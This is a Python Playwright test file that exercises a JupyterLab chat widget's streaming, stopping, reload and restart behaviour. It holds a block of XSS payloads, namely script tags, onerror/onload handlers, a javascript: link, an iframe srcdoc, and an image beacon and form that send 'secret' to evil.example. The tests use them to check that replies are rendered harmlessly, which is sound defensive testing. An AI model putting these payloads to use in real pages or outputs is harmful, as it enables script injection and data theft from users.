@@ -1,0 +1,232 @@
+"""The chat box and chat.ask() in a real JupyterLab, with an upstream whose pace the test decides."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.browser.lab import SECONDS, JupyterLab, Notebook
+from tests.faults.upstream import ScriptedUpstream, Usage, reply, words
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from playwright.sync_api import Browser, Locator
+
+
+@pytest.fixture(scope="module")
+def shared_notebook(lab: JupyterLab, browser: Browser) -> Iterator[Notebook]:
+    notebook = Notebook(lab, browser, lab.new_notebook("chats.ipynb", "import workbench as wb"))
+    notebook.outputs(notebook.run("import workbench as wb"))
+    yield notebook
+    notebook.close()
+
+
+@pytest.fixture
+def notebook(shared_notebook: Notebook, lab_upstream: ScriptedUpstream) -> Iterator[Notebook]:
+    """A notebook whose kernel has the workbench; each test makes chats of its own in it."""
+    lab_upstream.reset()
+    yield shared_notebook
+    lab_upstream.release(1000)
+    shared_notebook.settle()
+    shared_notebook.clear()
+    assert lab_upstream.crashes == []
+
+
+def show_chat(notebook: Notebook, more: str = "") -> Locator:
+    """Show the box of a new chat, and wait until it and Python know each other."""
+    notebook.run(f"chat = wb.Chat()\nbox = chat.widget()\ndisplay(box)\n{more}")
+    box = notebook.page.locator(".wb-chat")
+    box.locator(".wb-title", has_text="New chat").wait_for()
+    return box
+
+
+def send(box: Locator, text: str) -> None:
+    box.locator(".wb-input").fill(text)
+    box.locator(".wb-input").press("Enter")
+
+
+def last_reply(box: Locator, status: str) -> Locator:
+    """Wait for a last reply of this status."""
+    reply = box.locator(f".wb-message[data-role=assistant][data-status={status}]").last
+    reply.wait_for()
+    return reply
+
+
+def statuses(notebook: Notebook) -> str:
+    return notebook.value("[(m.status, m.content) for m in chat.messages]")
+
+
+# --- The chat box -----------------------------------------------------------------------------------------------
+
+
+def test_a_reply_streams_and_ends_with_its_footer_and_the_cost_of_the_chat(
+    notebook: Notebook, lab_upstream: ScriptedUpstream
+) -> None:
+    usage = Usage(uncached_input_tokens=1000, output_tokens=50)
+    lab_upstream.script(reply("It is **four**, I think.", usage=usage, pause_after=3))
+    box = show_chat(notebook)
+    send(box, "What is 2+2?")
+    streaming = last_reply(box, "streaming")
+    streaming.get_by_text("It is four,").wait_for()
+    assert box.locator(".wb-stop").is_visible()
+    lab_upstream.release()
+    done = last_reply(box, "complete")
+
+    assert done.locator(".wb-body").inner_text() == "It is four, I think."
+    footer = "claude-sonnet-5-5 · 1,000 in + 50 out tokens · $0.0025 · "
+    assert done.locator(".wb-footer").inner_text().startswith(footer)
+    assert box.locator(".wb-cost").inner_text() == "$0.0025"
+    assert box.locator(".wb-send").is_visible()
+    assert notebook.value("wb.Chat.open(chat.id).messages[1].content") == "'It is **four**, I think.'"
+
+
+def test_stop_works_while_another_cell_runs(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
+    lab_upstream.script(reply("one two three", pause_after=1))
+    box = show_chat(notebook)
+    send(box, "count")
+    last_reply(box, "streaming").get_by_text("one").wait_for()
+    notebook.run(f"import time; time.sleep({SECONDS * 2})")
+    notebook.page.locator(".jp-InputPrompt", has_text="[*]:").wait_for()
+    box.locator(".wb-stop").click()
+    last_reply(box, "interrupted")
+    lab_upstream.wait_for(lambda u: u.disconnects, SECONDS)
+
+    assert notebook.running
+    notebook.settle()
+    assert statuses(notebook) == "[('complete', 'count'), ('interrupted', 'one')]"
+
+
+def test_a_message_is_answered_while_the_cell_that_shows_the_box_runs(notebook: Notebook) -> None:
+    box = show_chat(notebook, f"import time; time.sleep({SECONDS * 2})")
+    send(box, "anybody there?")
+    done = last_reply(box, "complete")
+    send(box, "and again?")
+    box.locator(".wb-message[data-status=complete][data-role=assistant]").nth(1).wait_for()
+
+    assert done.locator(".wb-footer").inner_text() != ""
+    assert notebook.running
+
+
+def test_a_page_reloaded_in_the_middle_of_a_reply_goes_on_with_it(
+    notebook: Notebook, lab_upstream: ScriptedUpstream
+) -> None:
+    lab_upstream.script(reply(words(40), delay=0.01, pause_after=20))
+    box = show_chat(notebook)
+    send(box, "go")
+    last_reply(box, "streaming").get_by_text("tango").wait_for()
+    notebook.save_and_reload()
+    last_reply(box, "streaming").get_by_text("tango").wait_for()
+    lab_upstream.release()
+
+    assert last_reply(box, "complete").locator(".wb-body").inner_text() == words(40)
+    assert box.locator(".wb-message").count() == 2
+
+
+HOSTILE = """Look: <script>window.__pwn = 1</script> <img src=x onerror="window.__pwn = 2">
+
+![beacon](https://evil.example/?q=secret) [click](javascript:window.__pwn=3)
+
+<form action="https://evil.example/"><input name=q></form>
+
+<iframe srcdoc="<script>parent.__pwn = 4</script>"></iframe>
+
+<svg onload="window.__pwn = 5"></svg> and that was all.
+"""
+
+
+def assert_harmless(notebook: Notebook, place: Locator) -> None:
+    assert place.locator("script, img, form, input, iframe, svg:not([data-icon] svg), [onerror], [onload]").count() == 0
+    for link in place.locator("a").all():
+        assert (link.get_attribute("href") or "").startswith(("https://", "http://", "mailto:"))
+    assert notebook.page.evaluate("window.__pwn") is None
+    assert notebook.requested == []
+
+
+def test_a_hostile_reply_runs_nothing_and_requests_nothing(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
+    lab_upstream.script(reply([HOSTILE[:30], HOSTILE[30:]]))
+    box = show_chat(notebook)
+    send(box, "attack")
+    body = last_reply(box, "complete").locator(".wb-body")
+    body.get_by_text("and that was all.").wait_for()
+
+    assert_harmless(notebook, body)
+
+
+def test_what_is_kept_in_the_notebook_is_harmless_where_it_is_shown(
+    notebook: Notebook, lab_upstream: ScriptedUpstream
+) -> None:
+    lab_upstream.script(reply([HOSTILE]))
+    show_chat(notebook)
+    notebook.outputs(notebook.run("chat.ask('attack', show=False)\nsaved = box._repr_mimebundle_()[0]"))
+    notebook.outputs(notebook.run("display({'text/markdown': saved['text/markdown']}, raw=True)"))
+    output = notebook.page.locator(".jp-OutputArea-output.jp-RenderedMarkdown").last
+    output.get_by_text("and that was all.").wait_for()
+
+    assert_harmless(notebook, output)
+    assert output.locator("strong").all_inner_texts() == ["You", "Claude"]
+
+
+# --- chat.ask() in a cell ---------------------------------------------------------------------------------------
+
+
+def test_ask_streams_into_the_cell_and_shows_its_reply_once(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
+    lab_upstream.script(reply("It is **four**, I think.", pause_after=3))
+    cell = notebook.run("chat = wb.Chat()\nchat.ask('What is 2+2?')")
+    output = notebook.page.locator(".jp-Notebook-cell").last.locator(".jp-OutputArea-output")
+    output.get_by_text("It is four,").wait_for()
+    lab_upstream.release()
+    [shown] = notebook.outputs(cell)
+
+    assert shown["output_type"] == "display_data"
+    assert "<strong>four</strong>, I think." in "".join(shown["data"]["text/html"])
+    assert output.count() == 1
+    assert output.inner_text().startswith("It is four, I think.\n\nclaude-sonnet-5-5 · ")
+
+
+def test_a_hostile_reply_in_a_cell_runs_nothing_and_requests_nothing(
+    notebook: Notebook, lab_upstream: ScriptedUpstream
+) -> None:
+    lab_upstream.script(reply([HOSTILE]))
+    notebook.outputs(notebook.run("wb.Chat().ask('attack')"))
+    output = notebook.page.locator(".jp-Notebook-cell").last.locator(".jp-OutputArea-output")
+    output.get_by_text("and that was all.").wait_for()
+
+    assert_harmless(notebook, output)
+
+
+def test_interrupting_a_cell_that_asks_keeps_and_records_what_came(
+    notebook: Notebook, lab_upstream: ScriptedUpstream
+) -> None:
+    lab_upstream.script(reply("one two three", pause_after=1))
+    cell = notebook.run("chat = wb.Chat()\nchat.ask('count')")
+    output = notebook.page.locator(".jp-Notebook-cell").last.locator(".jp-OutputArea-output")
+    output.get_by_text("one").wait_for()
+    notebook.interrupt()
+    outputs = notebook.outputs(cell)
+
+    assert [o.get("ename") for o in outputs] == [None, "KeyboardInterrupt"]
+    assert "interrupted · " in "".join(outputs[0]["data"]["text/plain"])
+    assert statuses(notebook) == "[('complete', 'count'), ('interrupted', 'one')]"
+
+
+# --- Last, as it takes the kernel away --------------------------------------------------------------------------
+
+
+def test_after_a_restart_the_box_says_so_and_the_turn_is_in_the_ledger(
+    notebook: Notebook, lab_upstream: ScriptedUpstream
+) -> None:
+    lab_upstream.script(reply("one two three", pause_after=1))
+    box = show_chat(notebook)
+    chat_id = notebook.value("chat.id")
+    send(box, "count")
+    last_reply(box, "streaming").get_by_text("one").wait_for()
+    notebook.restart()
+    notebook.wait_until_ready()
+    box.locator(".wb-stop").click()
+    box.locator(".wb-notice", has_text="not connected - run the cell again").wait_for()
+
+    assert box.locator(".wb-input").is_disabled()
+    notebook.outputs(notebook.run(f"import workbench as wb; chat = wb.Chat.open({chat_id})"))
+    assert statuses(notebook) == "[('complete', 'count'), ('interrupted', 'one')]"
